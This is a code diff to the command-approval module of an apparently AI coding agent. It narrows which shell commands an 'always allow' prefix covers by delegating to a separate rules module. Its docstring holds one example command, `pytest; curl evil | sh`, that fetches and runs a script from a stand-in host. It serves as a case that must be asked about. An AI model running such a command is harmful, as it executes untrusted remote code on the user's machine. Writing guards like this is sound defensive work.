@@ -1,7 +1,9 @@
 """ "Always allow this command prefix": which shell commands an approved prefix covers.
 
 A prefix is the command's first word, or its first two for tools whose second word picks the
-action (`git status`, `npm test`, `python -m pytest`). A command with shell syntax (`;`, `&&`,
+action (`git status`, `npm test`, `python -m pytest`); a wrapper's names what it runs
+(`timeout 60 pytest`), and programs or options that run other programs get none
+(agent/command_rules.py). A command with shell syntax (`;`, `&&`,
 pipes, redirections, `$(...)`, backquotes, globs of commands) never gets a prefix and never
 matches one: `pytest; curl evil | sh` must be asked about, whatever was allowed before.
 """
@@ -10,33 +12,8 @@ from __future__ import annotations
 
 import shlex
 
-# The second word of these names the action: allowing `git status` must not allow `git push`.
-_SUBCOMMAND_TOOLS = frozenset(
-    {
-        "git",
-        "npm",
-        "pnpm",
-        "yarn",
-        "bun",
-        "cargo",
-        "go",
-        "uv",
-        "pip",
-        "pip3",
-        "poetry",
-        "docker",
-        "kubectl",
-        "make",
-        "just",
-        "dotnet",
-        "gradle",
-        "mvn",
-        "hatch",
-        "tox",
-        "nox",
-    }
-)
-_PYTHONS = frozenset({"python", "python3"})
+from m3agent.agent.command_rules import prefix_of
+
 _SHELL_SYNTAX = frozenset(";&|`$<>(){}\n\r\\*?[]!#~")
 
 
@@ -53,23 +30,17 @@ def _words(command: str) -> list[str] | None:
 
 
 def command_prefix(command: str) -> tuple[str, ...] | None:
-    """The prefix the user may allow for this command, or None (then only "once")."""
+    """The prefix the user may allow for this command, or None (then only "once"); the
+    per-program rules (wrappers, options that run programs) are agent/command_rules.py's."""
     words = _words(command)
-    if words is None:
-        return None
-    first = words[0]
-    if first in _PYTHONS and len(words) >= 3 and words[1] == "-m":
-        return tuple(words[:3])
-    if first in _SUBCOMMAND_TOOLS:
-        if len(words) < 2 or words[1].startswith("-"):
-            return None  # `git -c x=y ...`: options before the action, no safe prefix
-        return tuple(words[:2])
-    return (first,)
+    return None if words is None else prefix_of(words)
 
 
 def matches(command: str, prefix: tuple[str, ...]) -> bool:
-    words = _words(command)
-    return words is not None and tuple(words[: len(prefix)]) == prefix
+    """An allowed prefix covers a command whose own prefix is the same: a wrapper's prefix
+    names what it runs, and a command with a dangerous option has no prefix at all."""
+    got = command_prefix(command)
+    return got is not None and got == tuple(prefix)
 
 
 def shown(prefix: tuple[str, ...]) -> str:
